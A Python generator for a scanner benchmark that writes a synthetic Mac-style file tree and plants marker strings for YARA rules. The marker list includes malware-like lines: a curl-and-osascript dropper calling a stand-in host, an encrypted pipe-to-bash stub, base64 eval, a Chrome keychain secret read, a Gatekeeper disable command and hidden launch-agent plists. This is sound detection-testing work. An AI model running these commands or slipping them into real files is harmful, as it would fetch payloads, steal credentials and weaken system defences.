#!/usr/bin/env python3
"""Writes a directory tree to scan: files of the kinds and sizes a Mac's disk holds, some of
which carry strings of bench/scan/rules.yar.

    make_tree.py [-n FILES] [--seed SEED] -o DIR

The tree is the same for the same arguments (fixed seed, standard library only). Of every
20,000 files about 95 % are text of a few hundred bytes to a few KB (source, scripts, property
lists and XML, JSON, notes and logs), 3 % binary blobs of 10 KB to 2 MB, 1 % Mach-O-like
binaries (thin 0xfeedfacf and fat 0xcafebabe) and a handful larger files of 5 to 20 MB (disk
images, archives, movies), in folders nested 1 to 16 deep, from one file a folder to hundreds.
About 1.5 % of the files carry one of the rules' markers. There are no symbolic links, FIFOs or
devices, so every scanner sees the same regular files.

The tree is written to DIR.partial and renamed to DIR when complete; DIR must not exist. A
summary goes to DIR.manifest.json beside the tree (not in it): the counts, the total size and
every (rule, file) pair the markers are meant to make match.
"""
import argparse
import base64
import json
import math
import os
import shutil
import struct
import sys
import random
import re

# ---- vocabulary ------------------------------------------------------------------------------

WORDS = [
    "account", "agent", "alert", "archive", "asset", "audio", "backup", "badge", "banner",
    "bookmark", "bridge", "browser", "buffer", "bundle", "cache", "calendar", "camera", "canvas",
    "catalog", "channel", "client", "cloud", "codec", "config", "contact", "context", "cursor",
    "daemon", "data", "debug", "device", "dialog", "disk", "document", "download", "driver",
    "editor", "engine", "event", "export", "feed", "filter", "folder", "font", "frame", "gallery",
    "graph", "helper", "history", "image", "import", "index", "input", "kernel", "keychain",
    "layer", "layout", "library", "link", "list", "locale", "logger", "mail", "manager", "media",
    "menu", "message", "metric", "model", "module", "monitor", "network", "node", "note",
    "notify", "object", "option", "output", "package", "panel", "parser", "photo", "player",
    "plugin", "policy", "preview", "print", "profile", "project", "proxy", "query", "queue",
    "reader", "record", "render", "report", "request", "resource", "router", "sandbox", "scene",
    "schema", "screen", "script", "search", "server", "service", "session", "setting", "share",
    "shell", "signal", "socket", "source", "status", "storage", "stream", "style", "sync",
    "system", "table", "task", "theme", "thread", "timer", "token", "toolbar", "track", "update",
    "upload", "user", "util", "value", "vector", "video", "view", "volume", "watch", "widget",
    "window", "worker", "writer", "zone",
]
PRODUCTS = [
    "Safari", "Xcode", "Pages", "Numbers", "Keynote", "GarageBand", "iMovie", "Photos", "Music",
    "Podcasts", "Slack", "Zoom", "Firefox", "Google Chrome", "Visual Studio Code", "Docker",
    "Spotify", "Microsoft Word", "Microsoft Excel", "Adobe Photoshop 2024", "Affinity Designer",
    "Sketch", "Figma", "Postman", "iTerm", "BBEdit", "Transmit", "Little Snitch", "1Password 7",
    "Discord", "Notion", "Obsidian", "VLC", "HandBrake", "Steam", "Blender", "Unity Hub",
]
DIR_NAMES = [
    "src", "lib", "include", "bin", "share", "doc", "docs", "test", "tests", "build", "dist",
    "Resources", "Frameworks", "PlugIns", "Library", "Caches", "Preferences", "Logs",
    "Application Support", "Containers", "Group Containers", "Saved Application State",
    "LaunchAgents", "Fonts", "Sounds", "Desktop", "Documents", "Downloads", "Movies", "Pictures",
    "Projects", "node_modules", "vendor", "third_party", "assets", "images", "icons", "scripts",
    "config", "data", "backup", "old", "tmp", "archive", "2021", "2022", "2023", "2024", "v1",
    "v2", "Drafts", "Notes", "Receipts", "Screenshots", "Work", "Personal", "Invoices",
    "Base.lproj", "en.lproj", "de.lproj", "fr.lproj", "ja.lproj", "Headers", "Modules",
    "Versions", "Current", "Plug-ins", "Extensions", "Site-Packages", "Résumés", "Café notes",
    "日本語", "Übersicht",
]
TOP_DIRS = ["Applications", "Library", "Users", "usr", "opt", "private", "Developer", "Volumes"]
USERS = ["alice", "bob", "carol.king", "dev", "j_appleseed", "admin", "guest-2"]
SOURCE_EXT = [".c", ".h", ".m", ".mm", ".swift", ".cpp", ".hpp", ".py", ".js", ".ts", ".go",
              ".rb", ".java", ".rs"]
SCRIPT_EXT = [".sh", ".command", ".zsh", ""]
PLIST_EXT = [".plist"]
XML_EXT = [".xml", ".xib", ".storyboard", ".svg", ".strings", ".entitlements"]
NOTE_EXT = [".txt", ".md", ".json", ".yaml", ".log", ".csv", ".ini", ".html", ".css", ""]
BLOB_EXT = [".png", ".jpg", ".icns", ".car", ".nib", ".db", ".sqlite", ".dat", ".bin", ".gz",
            ".zip", ".woff2", ".pdf", ".mp3", ".cache"]
LARGE_KINDS = ["dmg", "tar", "mov", "dmg", "pkg", "tar", "mov", "dmg"]
# The larger files' sizes in MiB, in the order they are made: a tree of a quarter of the files
# still has the largest, so peak memory that follows the largest file compares fairly.
LARGE_MIB = [20, 6, 12, 16, 8, 18, 5, 10, 14, 7, 19, 9]

C_LINES = [
    "static int {w}_{w}(struct {w} *{w}, size_t count);",
    "    if ({w} == NULL) return -1;",
    "    for (size_t i = 0; i < {n}; ++i) {w}[i] = {w}_{w}(i);",
    "#include <{w}/{w}.h>",
    "    return {w}->{w} + {n};",
    "/* {W} the {w} before the {w} is released. */",
    "    [self.{w} {w}With{W}:{w} completion:^(NSError *error) {{ }}];",
    "    let {w} = try {W}{W}(contentsOf: url)",
    "func {w}{W}(_ {w}: {W}) -> [{W}] {{",
    "def {w}_{w}(self, {w}, {w}={n}):",
    "    return self._{w}.get('{w}', {n})",
    "const {w} = require('./{w}');",
    "export function {w}{W}({w}) {{ return {w}.{w}({n}); }}",
    "    // TODO: {w} the {w} when the {w} changes",
    "    {w}.{w}({w}, \"{w}-{n}\");",
    "}}",
    "",
    "    log.debug(\"{w} {w}: %d\", {n});",
    "    url = \"https://www.example.org/{w}/{w}?id={n}\"",
]
SHELL_LINES = [
    "set -euo pipefail",
    "{w}_dir=\"$HOME/Library/{W}\"",
    "mkdir -p \"${w}_dir\"",
    "if [ -f \"$1\" ]; then",
    "    cp \"$1\" \"/usr/local/{w}/{w}.{n}\"",
    "fi",
    "for f in *.{w}; do echo \"$f\"; done",
    "defaults write com.apple.{w} {W} -bool true",
    "launchctl list | grep {w}",
    "curl -s https://www.example.org/{w}/{n} > /dev/null",
    "# {w} the {w} first",
    "echo \"{w} {n}\"",
    "exit 0",
]
NOTE_LINES = [
    "{W} {w} {w} {w} {w} {n}.",
    "- {w}: {w} {w}",
    "\"{w}\": \"{w}-{n}\",",
    "{n},{w},{w},{n}",
    "[{w}] {w}={n}",
    "2024-0{d}-1{d} 10:{d}{d}:0{d} {w}[{n}]: {w} {w} {w}",
    "<p>{W} {w} {w}.</p>",
    "## {W} {W}",
    "",
]
CSTRINGS = [
    "_objc_msgSend", "_NSLog", "_CFRelease", "_dispatch_async", "_malloc", "_free", "_strlen",
    "init", "dealloc", "alloc", "release", "retain", "description", "applicationDidFinishLaunching:",
    "/usr/lib/libSystem.B.dylib", "/System/Library/Frameworks/Foundation.framework/Versions/C/Foundation",
    "/System/Library/Frameworks/AppKit.framework/Versions/C/AppKit", "@rpath/", "%s: %d",
    "com.apple.", "NSApplication", "CFBundleIdentifier", "Error: %@", "https://www.example.org/",
]


class Tree:
    def __init__(self, files, seed):
        self.n = files
        self.r = random.Random(seed)
        self.dirs = []          # relative paths, "" is the root
        self.depth = {}
        self.children = {}
        self.names = {}         # directory -> names used in it
        self.macos_dirs = []    # where an app's or a framework's binary goes
        self.files = []         # (relpath, kind, extra)

    # ---- names -----------------------------------------------------------------------------

    def word(self):
        return self.r.choice(WORDS)

    def cap(self):
        return self.word().capitalize()

    def unique(self, parent, name):
        used = self.names.setdefault(parent, set())
        base, ext = os.path.splitext(name) if not name.startswith(".") else (name, "")
        candidate, i = name, 2
        while candidate in used or candidate in ("", ".", ".."):
            candidate = "%s %d%s" % (base, i, ext) if self.r.random() < 0.5 else "%s-%d%s" % (base, i, ext)
            i += 1
        used.add(candidate)
        return candidate

    def add_dir(self, parent, name):
        name = self.unique(parent, name)
        path = name if parent == "" else parent + "/" + name
        self.dirs.append(path)
        self.depth[path] = self.depth[parent] + 1
        self.children.setdefault(parent, []).append(path)
        return path

    def dir_name(self):
        r = self.r.random()
        if r < 0.45:
            return self.r.choice(DIR_NAMES)
        if r < 0.7:
            return self.word()
        if r < 0.85:
            return self.cap() + self.cap()
        if r < 0.93:
            return "%s-%d.%d.%d" % (self.word(), self.r.randint(0, 9), self.r.randint(0, 20), self.r.randint(0, 9))
        return "com.%s.%s" % (self.word(), self.word())

    # ---- layout ----------------------------------------------------------------------------

    def layout(self):
        r = self.r
        self.dirs.append("")
        self.depth[""] = 0
        for top in TOP_DIRS:
            self.add_dir("", top)
        for user in USERS:
            home = self.add_dir("Users", user)
            for sub in ("Library", "Documents", "Downloads", "Desktop", "Projects"):
                self.add_dir(home, sub)
        # App bundles: Contents/MacOS, Resources, a framework or two.
        apps = max(2, self.n // 500)
        for _ in range(apps):
            app = self.add_dir("Applications", r.choice(PRODUCTS) + ".app")
            contents = self.add_dir(app, "Contents")
            self.macos_dirs.append(self.add_dir(contents, "MacOS"))
            resources = self.add_dir(contents, "Resources")
            for lang in r.sample(["en.lproj", "de.lproj", "fr.lproj", "ja.lproj", "Base.lproj"], r.randint(1, 4)):
                self.add_dir(resources, lang)
            frameworks = self.add_dir(contents, "Frameworks")
            for _ in range(r.randint(0, 3)):
                fw = self.add_dir(frameworks, self.cap() + self.cap() + ".framework")
                versions = self.add_dir(fw, "Versions")
                a = self.add_dir(versions, "A")
                self.macos_dirs.append(a)
                self.add_dir(a, "Resources")
            self.files.append((contents + "/Info.plist", "plist", None))
            self.names.setdefault(contents, set()).add("Info.plist")
        # The rest grows at random: mostly below a folder made lately (deep chains), otherwise
        # anywhere (wide folders).
        target = max(len(self.dirs) + 8, self.n // 12)
        while len(self.dirs) < target:
            if r.random() < 0.55:
                back = min(len(self.dirs) - 1, int(r.expovariate(0.25)))
                parent = self.dirs[-1 - back]
            else:
                parent = r.choice(self.dirs)
            if self.depth[parent] >= 16:
                continue
            self.add_dir(parent, self.dir_name())

    def place(self):
        r = self.r
        n = self.n
        large = max(1, round(n / 2500))
        macho = max(4, round(n * 0.01))
        blobs = max(4, round(n * 0.03))
        empty = max(1, round(n * 0.002))
        plan = []
        for i in range(large):
            plan.append(("large-" + LARGE_KINDS[i % len(LARGE_KINDS)], i))
        for i in range(macho):
            plan.append(("fat" if i % 4 == 3 else "macho", i))
        plan += [("blob", None)] * blobs + [("empty", None)] * empty
        text = n - len(self.files) - len(plan)
        for _ in range(text):
            x = r.random()
            kind = "source" if x < 0.45 else "plist" if x < 0.60 else "xml" if x < 0.68 else "script" if x < 0.75 else "note"
            plan.append((kind, None))
        r.shuffle(plan)
        # Files go into folders with heavy-tailed weights: a few folders hold hundreds, most a few.
        weights = [min(100.0, r.paretovariate(1.2)) for _ in self.dirs]
        targets = r.choices(self.dirs, weights=weights, k=len(plan))
        binaries = list(self.macos_dirs)
        for (kind, index), folder in zip(plan, targets):
            if kind in ("macho", "fat") and binaries:
                folder = binaries.pop()
            name = self.file_name(kind, folder)
            self.files.append((folder + "/" + name if folder else name, kind, index))

    def file_name(self, kind, folder):
        r = self.r
        if kind == "source":
            name = r.choice([self.word(), self.cap() + self.cap(), self.word() + "_" + self.word()]) + r.choice(SOURCE_EXT)
        elif kind == "script":
            name = self.word() + "-" + self.word() + r.choice(SCRIPT_EXT)
        elif kind == "plist":
            name = r.choice(["com.%s.%s" % (self.word(), self.word()), self.cap() + "Info", "Preferences"]) + ".plist"
        elif kind == "xml":
            name = self.cap() + self.cap() + r.choice(XML_EXT)
        elif kind == "note":
            name = r.choice([self.word(), self.cap() + " " + self.word(), "README", "CHANGELOG"]) + r.choice(NOTE_EXT)
        elif kind == "blob":
            name = self.word() + ("@2x" if r.random() < 0.2 else "") + r.choice(BLOB_EXT)
        elif kind in ("macho", "fat"):
            name = r.choice([self.cap() + self.cap(), "lib" + self.word() + ".dylib", self.word() + "d"])
        elif kind.startswith("large-"):
            name = self.cap() + r.choice(["-", " ", "_"]) + str(r.randint(1, 12)) + "." + kind[6:]
        else:
            name = r.choice([".localized", ".gitkeep", "empty", ".DS_Store", "LOCK"])
        return self.unique(folder, name)


# ---- contents --------------------------------------------------------------------------------

class Writer:
    def __init__(self, seed):
        self.r = random.Random(seed ^ 0x5A17)
        self.templates = {}

    def fill(self, template):
        tokens = self.templates.get(template)
        if tokens is None:
            tokens = [t.replace("{{", "{").replace("}}", "}") for t in re.split(r"(\{[wWnd]\})", template) if t]
            self.templates[template] = tokens
        r = self.r
        out = []
        for t in tokens:
            if t == "{w}":
                out.append(r.choice(WORDS))
            elif t == "{W}":
                out.append(r.choice(WORDS).capitalize())
            elif t == "{n}":
                out.append(str(r.randint(0, 4096)))
            elif t == "{d}":
                out.append(str(r.randint(0, 9)))
            else:
                out.append(t)
        return "".join(out)

    def text_size(self):
        # Log-normal around 1.5 KB: a few hundred bytes to a few KB, rarely 16 KB.
        return int(min(16384, max(120, self.r.lognormvariate(math.log(1500), 0.8))))

    def lines(self, pool, size, head=""):
        out = [head] if head else []
        total = len(head)
        while total < size:
            line = self.fill(self.r.choice(pool))
            out.append(line)
            total += len(line) + 1
        return "\n".join(out) + "\n"

    def source(self, size):
        return self.lines(C_LINES, size, "// %s.%s\n// Copyright 2024 %s. All rights reserved.\n" %
                          (self.r.choice(WORDS), self.r.choice(["c", "m", "swift"]), self.r.choice(PRODUCTS)))

    def script(self, size):
        return self.lines(SHELL_LINES, size, self.r.choice(["#!/bin/bash", "#!/bin/sh", "#!/bin/zsh", "#!/usr/bin/env bash"]) + "\n")

    def note(self, size):
        return self.lines(NOTE_LINES, size)

    def plist(self, size):
        r = self.r
        head = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
                '<plist version="1.0">\n<dict>\n')
        out = [head]
        total = len(head)
        keys = ["CFBundleIdentifier", "CFBundleName", "CFBundleVersion", "LSMinimumSystemVersion",
                "NSHumanReadableCopyright", "Label", "RunAtLoad", "KeepAlive", "ProgramArguments",
                "StartInterval", "WindowFrame", "LastOpened", "RecentDocuments", "Enabled"]
        while total < size - 20:
            key = r.choice(keys + [r.choice(WORDS).capitalize() + r.choice(WORDS).capitalize()])
            roll = r.random()
            if key in ("RunAtLoad", "KeepAlive", "Enabled") or roll < 0.15:
                value = r.choice(["<true/>", "<false/>"])
            elif key == "ProgramArguments":
                value = "<array>\n\t\t<string>/usr/local/bin/%s</string>\n\t\t<string>--%s</string>\n\t</array>" % (
                    r.choice(WORDS), r.choice(WORDS))
            elif roll < 0.35:
                value = "<integer>%d</integer>" % r.randint(0, 100000)
            elif roll < 0.45:
                value = "<data>\n\t%s\n\t</data>" % base64.b64encode(r.randbytes(r.randint(12, 90))).decode()
            else:
                value = "<string>%s</string>" % self.fill(r.choice(["com.{w}.{w}", "{W} {W}", "{n}.{d}.{d}",
                                                                    "/Users/Shared/{W}/{w}.{w}", "{W}"]))
            item = "\t<key>%s</key>\n\t%s\n" % (key, value)
            out.append(item)
            total += len(item)
        out.append("</dict>\n</plist>\n")
        return "".join(out)

    def xml(self, size):
        r = self.r
        out = ['<?xml version="1.0" encoding="UTF-8"?>\n<document type="%s" version="3.0">\n' % r.choice(WORDS)]
        total = len(out[0])
        depth = 1
        while total < size:
            roll = r.random()
            if roll < 0.3 and depth < 8:
                line = "  " * depth + '<%s id="%s-%d">' % (r.choice(WORDS), r.choice(WORDS), r.randint(0, 999))
                depth += 1
            elif roll < 0.45 and depth > 1:
                depth -= 1
                line = "  " * depth + "</node>"
            else:
                line = "  " * depth + '<%s key="%s" value="%s"/>' % (r.choice(WORDS), r.choice(WORDS), self.fill("{W} {w} {n}"))
            out.append(line + "\n")
            total += len(line) + 1
        out.append("</document>\n")
        return "".join(out)

    def blob(self, size):
        # Compressed-looking runs, zero padding, repeated records and bits of text, as images,
        # databases and caches have.
        r = self.r
        parts = []
        total = 0
        while total < size:
            chunk = min(size - total, r.randint(256, 65536))
            roll = r.random()
            if roll < 0.6:
                parts.append(r.randbytes(chunk))
            elif roll < 0.75:
                parts.append(bytes(chunk))
            elif roll < 0.9:
                record = r.randbytes(r.randint(8, 64))
                parts.append((record * (chunk // len(record) + 1))[:chunk])
            else:
                parts.append(self.note(chunk).encode()[:chunk])
            total += chunk
        return b"".join(parts)

    def thin_macho(self, size, arm):
        r = self.r
        cputype, subtype = (0x0100000C, 0) if arm else (0x01000007, 3)
        strings = b"\0".join(s.encode() for s in r.choices(CSTRINGS, k=60)) + b"\0"
        # Load commands: __PAGEZERO, __TEXT with __text and __cstring, __LINKEDIT, libSystem.
        def segment(name, fileoff, filesize, sections=()):
            body = struct.pack("<II16sQQQQiiII", 0x19, 72 + 80 * len(sections), name.encode(),
                               0x100000000 + fileoff, filesize, fileoff, filesize, 5, 5, len(sections), 0)
            for sect, off, length in sections:
                body += struct.pack("<16s16sQQIIIIIIII", sect.encode(), name.encode(), 0x100000000 + off,
                                    length, off, 4, 0, 0, 0, 0, 0, 0)
            return body
        text_off = 0x1000
        text_len = max(1024, size - text_off - len(strings) - 4096)
        cmds = [segment("__PAGEZERO", 0, 0),
                segment("__TEXT", 0, text_off + text_len + len(strings),
                        [("__text", text_off, text_len), ("__cstring", text_off + text_len, len(strings))]),
                segment("__LINKEDIT", text_off + text_len + len(strings), 4096)]
        dylib = b"/usr/lib/libSystem.B.dylib\0"
        dylib += bytes(-len(dylib) % 8)
        cmds.append(struct.pack("<IIIIII", 0xC, 24 + len(dylib), 24, 2, 0x05000000, 0x00010000) + dylib)
        cmds.append(struct.pack("<II", 0x1B, 24) + r.randbytes(16))  # LC_UUID
        header = struct.pack("<IiiIIIII", 0xFEEDFACF, cputype, subtype, r.choice([2, 6]), len(cmds),
                             sum(len(c) for c in cmds), 0x00200085, 0)
        head = header + b"".join(cmds)
        head += bytes(text_off - len(head))
        # Code: functions with a prologue, a body and a return.
        prologue = bytes.fromhex("fd7bbfa9fd030091") if arm else bytes.fromhex("554889e5")
        epilogue = bytes.fromhex("fd7bc1a8c0035fd6") if arm else bytes.fromhex("5dc3")
        code = []
        total = 0
        while total < text_len:
            body = r.randbytes(r.randint(32, 600))
            fn = prologue + body + epilogue
            code.append(fn)
            total += len(fn)
        text = b"".join(code)[:text_len]
        linkedit = b"".join(b"_" + r.choice(WORDS).encode() + b"_" + r.choice(WORDS).encode() + b"\0" for _ in range(300))
        linkedit = (linkedit + bytes(4096))[:4096]
        return head + text + strings + linkedit

    def macho(self, size):
        return self.thin_macho(size, self.r.random() < 0.4)

    def fat(self, size):
        x86 = self.thin_macho(size // 2, False)
        arm = self.thin_macho(size // 2, True)
        first = 0x4000
        second = first + len(x86) + (-(first + len(x86)) % 0x4000)
        head = struct.pack(">II", 0xCAFEBABE, 2)
        head += struct.pack(">iiIII", 0x01000007, 3, first, len(x86), 14)
        head += struct.pack(">iiIII", 0x0100000C, 0, second, len(arm), 14)
        return head + bytes(first - len(head)) + x86 + bytes(second - first - len(x86)) + arm

    def large(self, kind, size):
        r = self.r
        if kind == "dmg":
            body = self.blob(size - 512)
            trailer = b"koly" + struct.pack(">II", 4, 512) + r.randbytes(500)
            return body + trailer
        if kind == "tar":
            parts = []
            total = 0
            while total < size:
                data = (self.source(r.randint(500, 60000)) if r.random() < 0.7 else "").encode() or r.randbytes(r.randint(1000, 200000))
                name = ("%s/%s.%s" % (r.choice(WORDS), r.choice(WORDS), r.choice(["c", "txt", "bin"]))).encode()
                header = name.ljust(100, b"\0") + b"0000644\0" + b"0000765\0" + b"0000024\0"
                header += ("%011o\0" % len(data)).encode() + b"14572302271\0" + b"        0"
                header = header.ljust(512, b"\0")
                parts.append(header + data + bytes(-len(data) % 512))
                total += len(parts[-1])
            return b"".join(parts)[:size]
        if kind == "pkg":
            return b"xar!" + struct.pack(">HHQQI", 28, 1, 1024, 4096, 1) + self.blob(size - 28)
        return struct.pack(">I", 32) + b"ftypqt  " + bytes(20) + self.blob(size - 32)


# ---- markers ---------------------------------------------------------------------------------
#
# Each marker makes one rule of rules.yar match: the rule, the kinds of file it goes into, the
# size bounds its rule sets (of the file as written), whether it goes at the start, and the
# pieces it writes, each put at a place of its own in the file.

def mixed_case(r, text):
    return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in text)


def wide(text):
    return text.encode("utf-16-le")


def alnum(r, count, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(r.choice(alphabet) for _ in range(count))


TEXT = ("source", "script", "note", "xml", "plist")
BINARY = ("blob", "macho", "fat")

MARKERS = [
    ("TW_MACOS_ADLOAD_PLIST", ("plist",), 0, 60000, False, lambda r: [
        "\t<key>Label</key>\n\t<string>%s%s</string>\n\t<key>ProgramArguments</key>\n\t<array>\n"
        "\t\t<string>/Library/Application Support/.%s%d/%s</string>\n\t</array>\n" % (
            mixed_case(r, "com.adload."), r.choice(WORDS), r.choice(WORDS), r.randint(1, 99), r.choice(WORDS))]),
    ("TW_MACOS_BUNDLORE_SH", ("script",), 0, 16000, True, lambda r: [
        "#!/bin/bash\ntail -c +%d \"$0\" | openssl enc -aes-256-cbc -d -A -base64 -k \"%s\" | /bin/bash\n" % (
            r.randint(1000, 99999), alnum(r, 16, "0123456789ABCDEF"))]),
    ("TW_MACOS_SHLAYER_WIDE", BINARY, 0, 3000000, False, lambda r: [
        wide(r.choice(["ShlayerInstallerHelper", mixed_case(r, "Flash Player Update")]))]),
    ("TW_MACOS_PIRRIT_PROXY", ("source", "script", "note"), 0, None, False, lambda r: [
        "%s();\n" % mixed_case(r, "pirrit_proxy_setup"),
        "networksetup -setwebproxy \"Wi-Fi\" 127.0.0.1 %d\n" % r.randint(1024, 65000)]),
    ("TW_MACOS_GENIEO_URL", ("source", "note"), 0, 1000000, False, lambda r: [
        "\"extension_id\": \"%s\",\n" % alnum(r, 32, "abcdefghijklmnop"),
        "\"endpoint\": \"https://%s.%s/api/v%d/%s\",\n" % (
            alnum(r, 10), r.choice(["top", "xyz", "club"]), r.randint(1, 9), r.choice(["report", "track", "ping", "stats"]))]),
    ("TW_MACOS_OSASCRIPT_DROPPER", ("script",), 0, None, True, lambda r: [
        (lambda name: "#!/bin/sh\ncurl -fsSL https://%s.example.net/%s -o /tmp/.%s\n"
                      "osascript -e 'do shell script \"chmod +x /tmp/.%s; /tmp/.%s\" with administrator privileges'\n"
                      % (r.choice(WORDS), name, name, name, name))(r.choice(WORDS) + str(r.randint(1, 9))),
    ]),
    ("TW_MACOS_KEYCHAIN_STEALER", ("script", "source", "note"), 0, None, False, lambda r: [
        "key=$(security find-generic-password -wa \"Chrome Safe Storage\")\n"]),
    ("TW_MACOS_DOK_A", ("macho",), 0, 2000000, False, lambda r: [
        b"\x48\x8b\x05" + r.randbytes(4) + b"\x48\x85\xc0\x74" + r.randbytes(1) + b"\x48\x8d\x3d" + r.randbytes(4) + b"\xe8" + r.randbytes(4),
        b"Dok_Updater\0"]),
    ("TW_MACOS_PROTON_B", ("macho", "fat"), 0, None, False, lambda r: [
        b"\x55\x48\x89\xe5\x41\x57\x41\x56" + r.randbytes(r.randint(2, 6)) + b"\x48\x83\xec" + r.randbytes(1) + b"\x4c\x8d\x35" + r.randbytes(4),
        r.choice([b"proton.agent\0", mixed_case(r, "com.eltima.elmedia").encode() + b"\0"])]),
    ("TW_MACOS_EVILQUEST", ("macho", "fat"), 0, None, False, lambda r: [
        b"toidievitceffe\0", r.choice([b"config.txt\0", b"config_txt\0"])]),
    ("TW_MACOS_XLOADER_FAT", ("fat",), 0, 4000000, False, lambda r: [
        b"XLoader" + r.randbytes(2) + b"\0\0" + r.randbytes(r.randint(8, 24)) + b"/Users/" + r.choice(USERS).encode() + b"\0"]),
    ("TW_MACOS_PAYLOAD_BLOB", ("blob",), 70000, 4000000, False, lambda r: [
        b"MACB" + r.randbytes(r.randint(4, 16)) + b"\x00\x01\x02\x03" + r.randbytes(2) + b"\xfe\xed\xfa\xce"]),
    ("TW_MACOS_DMG_PAYLOAD", ("large-dmg",), 0, None, False, lambda r: [
        r.choice([b"InstallerUpdate.pkg", wide("InstallerUpdate.pkg")])]),
    ("TW_MACOS_XCSSET_PROJ", ("source", "note"), 0, None, False, lambda r: [
        "// xcsset: Pods/Target Support Files/%s/%s.xcconfig\n" % (r.choice(WORDS).capitalize(), r.choice(WORDS))]),
    ("TW_MACOS_BASE64_EVAL", ("script", "note"), 0, 30000, False, lambda r: [
        "eval \"$(echo %s | base64 --decode)\"\n" % base64.b64encode(r.randbytes(r.randint(30, 300))).decode()]),
    ("TW_MACOS_MINER", ("macho", "fat"), 0, None, False, lambda r: [
        b"stratum+tcp://pool.%s.net:3333\0" % r.choice(WORDS).encode(),
        r.choice([b"XMRig/6.18.0\0", b"--donate-level=1\0"])]),
    ("TW_MACOS_APPLEJEUS_STACKSTR", ("macho", "fat"), 0, None, False, lambda r: [
        b"\xc7\x45" + r.randbytes(1) + b"/tmp\xc7\x45" + r.randbytes(1) + b"/.lo"]),
    ("TW_MACOS_UPDATE_BEACON", ("source", "note", "xml"), 0, 190000, False, lambda r: [
        "https://update-checker.example-cdn.net/%s?v=%d\n" % (r.choice(WORDS), r.randint(1, 99)) for _ in range(r.randint(4, 6))]),
    ("TW_MACOS_TWB_CONTAINER", ("blob",), 0, None, True, lambda r: [
        b"TWB1" + r.randbytes(r.randint(32, 200)) + b"keyring" + r.randbytes(16)]),
    ("TW_MACOS_DEFENSE_EVASION", ("script", "source"), 0, None, False, lambda r: (
        lambda s: ["%s\n" % s, "%s\n" % s])(r.choice(["kill_av_process", "disable_gatekeeper", "sudo spctl --master-disable"]))),
    ("TW_MACOS_HIDDEN_AGENT_PLIST", ("plist",), 0, 15000, False, lambda r: [
        "\t<key>RunAtLoad</key>\n\t<true/>\n\t<key>KeepAlive</key>\n\t<true/>\n\t<key>Program</key>\n"
        "\t<string>/Users/%s/.%s/%s</string>\n" % (r.choice(USERS), r.choice(WORDS), r.choice(WORDS))]),
    ("TW_MACOS_MINIINSTALLER_WIDE", BINARY, 0, 2000000, False, lambda r: [
        wide(mixed_case(r, "UpdateAgent.MiniInstaller"))]),
    ("TW_MACOS_DYLIB_INJECT", ("macho", "fat"), 0, None, False, lambda r: [
        b"@rpath/libsystem_update.dylib\0", b"DYLD_INSERT_LIBRARIES\0"]),
    ("TW_MACOS_SILVER_SPARROW", ("script", "note", "source"), 0, None, False, lambda r: [
        "%s\n" % s for s in r.sample(["agent_updater_ver=%d" % r.randint(1, 9), "bash ./verx.sh", "touch ~/Library/._insu"], 2)]),
    ("TW_MACOS_LARGE_ARCHIVE_PAYLOAD", ("large",), 0, None, False, lambda r: [
        r.choice([b"kcm_shared_payload_v2", wide("kcm_shared_payload_v2")])]),
    ("TW_MACOS_SWIFT_LAUNCHER", ("source",), 0, None, False, lambda r: [
        "    task.launchPath = \"/private/var/tmp/.%s\"\n    task.arguments = [\"-c\", \"%s\"]\n" % (
            alnum(r, r.randint(6, 16)), r.choice(WORDS))]),
]


def marker_fits(marker, kind, size):
    _, kinds, low, high, _, _ = marker
    if kind.startswith("large-"):
        fits = kind in kinds or "large" in kinds
    else:
        fits = kind in kinds
    return fits and size >= low and (high is None or size <= high - 4096)


def implant(r, content, kind, marker):
    """The content with the marker's pieces put in: at the start, or each at a place of its
    own: a line boundary in text, past the header in a Mach-O, before a disk image's trailer."""
    pieces = [p.encode() if isinstance(p, str) else p for p in marker[5](r)]
    if marker[4]:
        return b"".join(pieces) + content
    low, high = 0, len(content)
    if kind in ("macho", "fat"):
        low = min(0x4000 + 0x1000, len(content))
    elif kind.startswith("large-") or kind == "blob":
        low = min(64, len(content))
        if kind == "large-dmg":
            high = len(content) - 512
    for piece in pieces:
        at = r.randint(low, high)
        if kind in TEXT:
            newline = content.rfind(b"\n", 0, at)
            at = newline + 1 if newline >= 0 else 0
        content = content[:at] + piece + content[at:]
        high += len(piece)
    return content


def main():
    parser = argparse.ArgumentParser(description="Writes a directory tree to scan.")
    parser.add_argument("-n", dest="files", type=int, default=20000, help="files in the tree (default 20000)")
    parser.add_argument("--seed", type=int, default=20261210, help="random seed (default 20261210)")
    parser.add_argument("-o", dest="out", required=True, help="directory to write; must not exist")
    args = parser.parse_args()
    if args.files < 100:
        parser.error("-n must be at least 100")
    out = args.out.rstrip("/")
    if os.path.lexists(out):
        print("make_tree.py: %s exists" % out, file=sys.stderr)
        return 2
    partial = out + ".partial"
    if os.path.lexists(partial):
        shutil.rmtree(partial)

    tree = Tree(args.files, args.seed)
    tree.layout()
    tree.place()
    writer = Writer(args.seed)
    marks = random.Random(args.seed ^ 0x3C3C)

    # Sizes first, then which files carry a marker: every marker at least once, then 1.5 % of
    # the text files, 3 % of the blobs, 10 % of the binaries and half the larger files.
    sized = []
    for path, kind, index in tree.files:
        if kind in TEXT:
            size = writer.text_size()
        elif kind == "blob":
            size = int(math.exp(writer.r.uniform(math.log(10 * 1024), math.log(2000000))))
        elif kind in ("macho", "fat"):
            size = int(math.exp(writer.r.uniform(math.log(30 * 1024), math.log(1500000))))
        elif kind.startswith("large-"):
            size = LARGE_MIB[index % len(LARGE_MIB)] << 20
        else:
            size = 0
        sized.append([path, kind, size, None])
    for marker in MARKERS:
        fitting = [f for f in sized if f[3] is None and marker_fits(marker, f[1], f[2])]
        if fitting:
            marks.choice(fitting)[3] = marker
    rate = {"blob": 0.03, "macho": 0.1, "fat": 0.1}
    for f in sized:
        if f[3] is not None or f[1] == "empty":
            continue
        p = 0.5 if f[1].startswith("large-") else rate.get(f[1], 0.013)
        if marks.random() < p:
            fitting = [m for m in MARKERS if marker_fits(m, f[1], f[2])]
            if fitting:
                f[3] = marks.choice(fitting)

    for folder in tree.dirs:
        os.makedirs(os.path.join(partial, folder), exist_ok=True)
    total = 0
    expected = []
    for path, kind, size, marker in sized:
        if kind == "source":
            data = writer.source(size).encode()
        elif kind == "script":
            data = writer.script(size).encode()
